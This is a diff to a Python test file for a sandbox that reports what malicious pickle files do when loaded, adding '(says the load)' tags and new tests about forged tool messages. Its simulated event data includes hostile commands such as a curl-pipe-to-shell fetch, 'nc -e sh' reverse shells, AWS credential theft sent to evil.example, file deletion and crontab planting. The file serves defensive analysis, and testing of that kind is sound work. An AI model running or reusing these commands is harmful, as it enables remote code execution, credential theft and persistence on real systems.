@@ -9,7 +9,7 @@ from typing import Any
 from hypothesis import given
 from hypothesis import strategies as st
 
-from sandbox.facts import Conversation, Event, Hint, Process, StaticFacts, Story
+from sandbox.facts import Conversation, Event, GlobalUse, Hint, Process, StaticFacts, Story
 from sandbox.judge.story import MOST_ROWS, account
 from sandbox.judge.teller import MOST_NODES
 from sandbox.report.story import told
@@ -25,6 +25,7 @@ INET = {"family": "AF_INET", "address": "203.0.113.9", "port": "80"}
 AWS = {"name": "AWS credentials", "path": "/home/user/.aws/credentials"}
 CALLS = replace(STATIC, globals=(use("posix.system"), use("builtins.exec")))
 SYSTEM = Hint("os.system", "sh", "posix.system")
+STEAL = "Python at <string>:3 steal, through /usr/lib/python3.11/socket.py:3 connect (says the load)"
 CODE = Hint("socket.connect", "", "builtins.exec", ("/usr/lib/python3.11/socket.py:3 connect", "<string>:3 steal"))
 
 
@@ -81,7 +82,7 @@ def test_a_shell_that_fetches_a_script() -> None:
     for pid in (CURL, SECOND, SHELL):
         rows.add("process.exit", pid, value="0")
     assert lines(story(rows, said())) == [
-        "unpickling calls posix.system (data.pkl, offset 0x1f) -> sh -c 'curl http://203.0.113.9/x | sh'",
+        f"unpickling calls posix.system (data.pkl, offset 0x1f) (says the load) -> {PIPE}",
         "  -> curl connects 203.0.113.9:80 -> GET /x -> got 200, 0 bytes",
         "  -> sh ends with 0",
     ]
@@ -89,7 +90,9 @@ def test_a_shell_that_fetches_a_script() -> None:
 
 def test_under_evaluate_the_first_call_is_refused() -> None:
     rows = Rows().add("process.fork", LOADER, flags="vfork").add("process.exec", 8, "denied", argv="sh -c id")
-    assert lines(story(rows)) == ["unpickling calls posix.system (data.pkl, offset 0x1f) -> sh -c id (denied)"]
+    assert lines(story(rows)) == [
+        "unpickling calls posix.system (data.pkl, offset 0x1f) (says the load) -> sh -c id (denied)"
+    ]
 
 
 def test_python_code_is_told_by_its_innermost_line_and_names_lead_to_addresses() -> None:
@@ -102,7 +105,7 @@ def test_python_code_is_told_by_its_innermost_line_and_names_lead_to_addresses()
     spoken = said(LOADER, b"POST /up HTTP/1.1\r\n\r\nx", b"", address="198.18.0.1", port=443, name="evil.example")
     found = story(rows, spoken, hints=(CODE,))
     assert lines(found) == [
-        "unpickling calls builtins.exec (data.pkl, offset 0x1f) -> Python at <string>:3 steal",
+        f"unpickling calls builtins.exec (data.pkl, offset 0x1f) (says the load) -> {STEAL}",
         "  -> reads the AWS credentials (/home/user/.aws/credentials)",
         "  -> asks for the name evil.example -> connects evil.example:443 -> POST /up with 1 byte",
         "    -> got no answer",
@@ -154,12 +157,14 @@ def test_what_comes_after_the_load_is_not_the_unpicklers_call() -> None:
     assert lines(found) == ["after the load -> deletes /home/a"]
     assert found.nodes[-1].phase == "after"
     fresh = story(rows, hints=(SYSTEM, CODE), hint_of={1: 0, 2: 0, 3: 1})
-    assert lines(fresh) == ["after the load -> Python at <string>:3 steal -> deletes /home/a"]
+    assert lines(fresh) == [f"after the load -> {STEAL} -> deletes /home/a"]
 
 
 def test_a_hint_before_the_loads_own_beginning_counts() -> None:
     rows = Rows().add("phase", 0, call="load").add("file.delete", LOADER, path="/home/a")
-    assert lines(story(rows)) == ["unpickling calls posix.system (data.pkl, offset 0x1f) -> deletes /home/a"]
+    assert lines(story(rows)) == [
+        "unpickling calls posix.system (data.pkl, offset 0x1f) (says the load) -> deletes /home/a"
+    ]
 
 
 def test_the_same_again_is_counted() -> None:
@@ -167,7 +172,7 @@ def test_the_same_again_is_counted() -> None:
     for pid in range(20, 32):
         rows.run(pid, LOADER, "nc -e sh", "/bin/nc").add("process.exit", pid, value="1")
     (line,) = lines(story(rows))
-    assert line.endswith("(data.pkl, offset 0x1f) -> nc -e sh -> nc ends with 1 (x12)")
+    assert line.endswith("(data.pkl, offset 0x1f) (says the load) -> nc -e sh -> nc ends with 1 (x12)")
 
 
 def test_a_name_that_is_tried_folder_by_folder_is_one_step() -> None:
@@ -201,9 +206,46 @@ def test_a_planted_tool_tells_what_it_was_given_instead_of_its_connect() -> None
     rows.add("net.connect", SHELL, "faked", family="AF_INET", address="192.0.2.1", port="9")
     sent = b'{"tool": "crontab", "argv": ["crontab", "-"], "environment": {}, "stdin": "YQ=="}'
     (line,) = lines(story(rows, said(SHELL, sent, b"", address="192.0.2.1", port=9)))
-    assert line.endswith("-> crontab - -> the planted crontab is given `crontab -`, with 1 byte of input")
+    assert line.endswith(
+        "-> crontab - -> the planted crontab is given `crontab -`, with 1 byte of input (says the tool)"
+    )
     lied = said(SHELL, b"{}", b"", address="192.0.2.1", port=9)
     assert "connects 192.0.2.1:9" in "".join(lines(story(rows, lied)))
+
+
+def test_a_word_is_a_tools_only_when_its_process_became_that_tool() -> None:
+    sent = b'{"tool": "crontab", "argv": ["crontab", "-"], "environment": {}, "stdin": ""}'
+    word = said(SHELL, sent, b"", address="192.0.2.1", port=9)
+    to_tools = {"family": "AF_INET", "address": "192.0.2.1", "port": "9"}
+    for rows in (
+        Rows().run(SHELL, LOADER, "sh -c id", "/bin/sh"),
+        Rows().run(13, LOADER, "crontab -", "/usr/bin/crontab"),
+        Rows().run(SHELL, LOADER, "crontab -", "/bin/sh"),
+        Rows().add("process.exec", SHELL, "denied", path="/usr/bin/crontab", argv="crontab"),
+    ):
+        text = "\n".join(lines(story(rows.add("net.connect", SHELL, "faked", **to_tools), word)))
+        assert "connects 192.0.2.1:9 -> the planted crontab is given" in text
+        assert "`crontab -` (forged word of a tool)" in text
+
+
+def test_a_call_is_chosen_by_what_was_done_and_not_by_what_was_looked_up_last() -> None:
+    rows = Rows().add("process.exec", LOADER, "denied", argv="sh")
+
+    def cause(hint: Hint, *globals_: GlobalUse) -> str:
+        found = story(rows, hints=(hint,), static=replace(STATIC, globals=globals_)).nodes[0]
+        return found.text if found.kind == "call" else ""
+
+    at = "(data.pkl, offset 0x1f)"
+    system, run, seen = use("posix.system"), use("builtins.exec"), use("torch.device", "reference")
+    memo = Hint("os.system", "sh", "torch.device")
+    assert cause(memo, system, seen) == f"unpickling calls posix.system {at}"
+    assert cause(memo, system, use("torch.device")) == f"unpickling calls posix.system {at}"
+    assert cause(memo, run, seen) == f"unpickling calls builtins.exec {at}"
+    assert cause(memo, seen) == cause(memo, run, use("os.kill"), seen) == "unpickling, last looked up: torch.device"
+    assert cause(memo, use("torch.device")) == f"unpickling calls torch.device {at}"
+    assert cause(replace(memo, because="x"), use("posix.system", "reference")) == ""
+    in_code = Hint("os.system", "", "builtins.exec", ("<string>:1 f",))
+    assert cause(in_code, system, run) == f"unpickling calls builtins.exec {at}"
 
 
 def test_what_loads_do_is_no_story() -> None:
